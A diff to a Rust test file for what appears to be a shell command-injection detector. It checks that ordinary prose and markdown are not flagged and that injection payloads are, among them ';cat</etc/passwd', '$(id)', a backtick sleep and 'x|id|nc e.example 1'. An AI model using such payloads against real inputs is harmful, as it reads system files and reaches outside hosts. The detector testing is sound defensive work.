@@ -101,6 +101,33 @@ fn scripts_go_on_with_themselves() {
 }
 
 #[test]
+fn code_and_markdown_between_words_run_nothing_for_certain() {
+    for value in [
+        "any `Service`s, and `Sleep` is a future",
+        "- Added `sleep` to `::nix::unistd`.",
+        "[`nc`]: https://crates.example/nc",
+        "env.with_local_frame(|env| { Ok(()) });",
+        "| id | name |\n|----|------|\n| 1 | boots |",
+        "To install: curl -fsSL https://example.com/install.sh -o install.sh; less install.sh; sh install.sh",
+        "I ran ls -la && cat package.json | grep version, and it printed 1.2.3.",
+        "<p>Some text & more</p><a href=\"/more\">Read more</a>",
+    ] {
+        assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Certain), "{value}");
+    }
+    // What runs all the same.
+    for value in [
+        ";cat</etc/passwd",
+        "x `sleep 5`",
+        "| 1 | ; id |\n|---|---|",
+        "| $(id) |\n|---|",
+        "I ran ls -la; cat /etc/passwd",
+        "x|id|nc e.example 1",
+    ] {
+        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
+    }
+}
+
+#[test]
 fn commands_before_it_make_no_attack_harmless() {
     for value in [
         "git x; cat /etc/passwd",
